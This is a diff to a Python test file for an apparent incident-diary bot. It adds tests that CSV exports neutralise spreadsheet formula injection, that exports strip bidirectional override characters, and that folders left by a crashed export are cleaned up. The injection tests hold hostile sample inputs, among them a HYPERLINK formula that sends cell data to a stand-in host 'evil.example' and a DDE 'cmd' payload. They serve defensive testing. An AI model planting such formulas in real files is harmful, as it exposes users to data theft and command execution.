@@ -201,7 +201,7 @@ def test_csv_round_trips(tmp_path: Path) -> None:
     tricky = {
         "place": '12, High Street, "the flat"',
         "what_happened": 'Line one, with comma\nLine "two" 😢\r\nthree; ’ مرحبا',
-        "witnesses": "=SUM(1,2)",
+        "witnesses": "Sam = my sister",
         "evidence": "",
     }
     notes = [note(2, datetime(2024, 6, 1, 20, 15, tzinfo=timezone.utc), "contacting", **tricky)]
@@ -253,3 +253,139 @@ def test_export_of_what_the_store_returns(store: DiaryStore, tmp_path: Path) -> 
     rows = list(csv.DictReader(csv_path.open(encoding="utf-8", newline="")))
     assert [r["what_happened"] for r in rows] == [n.what_happened or "" for n in sample_notes()]
     assert dataclasses.asdict(notes[0].fields()) == dataclasses.asdict(sample_notes()[0].fields())
+
+
+# ------------------------------------------------------------------ hostile text in exports
+
+FORMULAS = {
+    "place": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "what_happened": "+44 7700 900123 rang me",
+    "how_detail": "-2+3",
+    "appearance": "@SUM(A1:A9)",
+    "witnesses": "\t=1+1",
+    "feelings": "\r=cmd|' /C calc'!A0",
+    "evidence": "  =1+1, with a comma so the cell is quoted",
+    "police_ref": "\uff1d1+1",  # a full-width equals sign: some spreadsheets read it as "="
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading
+    single quote (inside the quotes too), and every cell is quoted."""
+    notes = [
+        note(1, datetime(2024, 6, 1, 20, 15, tzinfo=timezone.utc), "contacting", **FORMULAS),
+        note(2, datetime(2024, 6, 2, 20, 15, tzinfo=timezone.utc), "contacting",
+             what_happened="He said 2+2=4 and left; nothing to neutralise @ here"),
+    ]
+    path = export_csv(notes, tmp_path / "log.csv")
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    for name, value in FORMULAS.items():
+        assert rows[0][name] == "'" + value, name  # read back as text, every character kept
+    assert rows[1]["what_happened"] == "He said 2+2=4 and left; nothing to neutralise @ here"
+    raw = path.read_text(encoding="utf-8")
+    for line in raw.split("\r\n")[1:2]:
+        assert line.startswith('"'), "every cell is quoted"
+    assert '"\'=HYPERLINK(' in raw and '"\'  =1+1, with a comma' in raw
+
+
+BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+
+
+def test_bidi_controls_cannot_reverse_text_in_the_pdf(tmp_path: Path) -> None:
+    """A right-to-left override in a note would show "0001" as "1000" and "LIAM NHOJ"
+    as "JOHN MAIL" in the PDF; the export drops bidi controls, so text reads as written."""
+    when = datetime(2024, 3, 4, 10, 0, tzinfo=timezone.utc)
+    hostile = note(1, when, "following",
+                   what_happened=("مرحبا He owes me \u202e0001\u202c pounds. "
+                                  "Signed: \u202eLIAM NHOJ\u202c end"),
+                   place="\u2067right\u2069 and \u202bembed\u202c \u200fmark\u200e")
+    path = export_pdf([hostile], tmp_path / "bidi.pdf", when)
+    text = " ".join(pdf_pages(path))
+    assert "0001" in text and "1000" not in text
+    assert "LIAM NHOJ" in text and "JOHN MAIL" not in text
+    assert not set(BIDI) & set(text)
+    assert "right and embed mark" in text
+
+
+def test_bidi_controls_are_dropped_from_the_csv(tmp_path: Path) -> None:
+    when = datetime(2024, 3, 4, 10, 0, tzinfo=timezone.utc)
+    hostile = note(1, when, "following", what_happened="owes me \u202e0001\u202c pounds",
+                   place="\u2066=1+1\u2069")
+    path = export_csv([hostile], tmp_path / "bidi.csv")
+    raw = path.read_text(encoding="utf-8")
+    assert not set(BIDI) & set(raw)
+    row = next(csv.DictReader(io.StringIO(raw)))
+    assert row["what_happened"] == "owes me 0001 pounds"
+    assert row["place"] == "'=1+1"  # hiding a formula behind an isolate does not help
+
+
+# ------------------------------------------------------------------ export folders left by a crash
+
+
+def _leftover(root: Path, name: str, files: dict[str, bytes], age: float) -> Path:
+    import os
+    import time
+
+    folder = root / name
+    folder.mkdir(mode=0o700)
+    for filename, data in files.items():
+        (folder / filename).write_bytes(data)
+    old = time.time() - age
+    for path in [*folder.iterdir(), folder]:
+        os.utime(path, (old, old))
+    return folder
+
+
+def test_export_folders_left_by_a_crash_are_swept(tmp_path: Path) -> None:
+    from bot.diary.export import sweep_export_folders
+
+    root = tmp_path / "exports"
+    root.mkdir()
+    hour = 3600.0
+    crashed = _leftover(root, "export-ab12cd_3", {"incident-log-2024-03-04.pdf": b"%PDF secret",
+                                                  "incident-log-2024-03-04.csv": b"secret"}, 2 * hour)
+    half = _leftover(root, "export-zz99yy00", {"incident-log-2024-03-04.pdf": b"%PDF"}, 2 * hour)
+    plan = _leftover(root, "plan-q1w2e3r4", {"safety-plan.pdf": b"%PDF"}, 2 * hour)
+    empty = _leftover(root, "export-emptyfol", {}, 2 * hour)
+    in_flight = _leftover(root, "export-justnow1", {"incident-log-2024-03-04.pdf": b"%PDF"}, 5.0)
+    not_ours = _leftover(root, "export-other123", {"report.xlsx": b"someone else's"}, 2 * hour)
+    unrelated = _leftover(root, "holiday-photos", {"a.jpg": b"jpg"}, 2 * hour)
+    assert sweep_export_folders(root) == 4
+    assert not crashed.exists() and not half.exists() and not plan.exists() and not empty.exists()
+    assert in_flight.exists(), "an export being sent right now (another replica) is left alone"
+    assert not_ours.exists() and unrelated.exists()
+    assert sweep_export_folders(tmp_path / "missing") == 0
+
+
+def test_build_core_sweeps_export_folders_at_start_up(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import asyncio
+
+    import bot.app as app
+    from bot.settings import Settings
+
+    root = tmp_path / "exports"
+    root.mkdir()
+    crashed = _leftover(root, "export-crash001", {"incident-log-2024-03-04.pdf": b"%PDF secret"}, 7200.0)
+
+    class Engine:
+        intents = frozenset()
+
+        async def start(self) -> None: ...
+
+        async def forget(self, user_id: str) -> None: ...
+
+        async def close(self) -> None: ...
+
+    monkeypatch.setattr(app, "build_engine", lambda settings: Engine())
+    settings = Settings(database_url=f"sqlite:///{tmp_path / 'db' / 'diary.db'}",
+                        diary_key_file=tmp_path / "diary.key", export_dir=root)
+
+    async def start() -> None:
+        core = await app.build_core(settings)
+        await core.close()
+        core.desk.store.close()
+
+    asyncio.run(start())
+    assert not crashed.exists()
